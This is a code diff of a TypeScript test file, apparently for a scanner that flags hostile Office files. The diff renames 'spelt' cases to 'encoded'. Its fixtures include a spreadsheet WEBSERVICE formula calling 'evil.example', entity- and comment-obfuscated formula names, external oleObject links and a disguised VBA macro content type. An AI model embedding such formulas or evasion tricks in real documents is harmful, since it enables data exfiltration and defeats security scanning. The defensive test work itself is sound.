@@ -124,7 +124,11 @@ const contents: [name: string, xml: string, why: RegExp][] = [
     sheet('<f>1+_xlfn.WEBSERVICE("https://evil.example")</f>'),
     /WEBSERVICE/,
   ],
-  ['spelt web formula', sheet('<f>WEB&#83;ERV<!-- x -->ICE(A1)</f>'), reaches],
+  [
+    'encoded web formula',
+    sheet('<f>WEB&#83;ERV<!-- x -->ICE(A1)</f>'),
+    reaches,
+  ],
   [
     'web formula in CDATA',
     sheet('<x:f><![CDATA[WEBSERVICE(A1)]]></x:f>'),
@@ -167,7 +171,10 @@ const variants: Record<
   string,
   [change: NonNullable<Parameters<typeof officeFile>[1]>, why: RegExp]
 > = {
-  'xml of a spelt name': [{ types: override('word/footer9.%70ng') }, misnamed],
+  'xml of an encoded name': [
+    { types: override('word/footer9.%70ng') },
+    misnamed,
+  ],
   'xml with a query': [{ types: override('word/footer9.png?.xml') }, misnamed],
   'xml with a parameter': [
     { types: override('a.png', 'APPLICATION/XML ; a=b') },
@@ -200,7 +207,7 @@ const variants: Record<
     { links: link('oleObject', 'https://a.example/', 'External', 'a>b') },
     linked,
   ],
-  'link behind spelt quotes': [
+  'link behind encoded quotes': [
     {
       links: link(
         'oleObject',
@@ -212,7 +219,7 @@ const variants: Record<
     linked,
   ],
   'links without an end': [{ links: '<Relationship '.repeat(9) }, damaged],
-  'spelt macro type': [
+  'encoded macro type': [
     { types: override('v.xml', 'application/vnd.ms-office.vba&#80;roject') },
     macros,
   ],
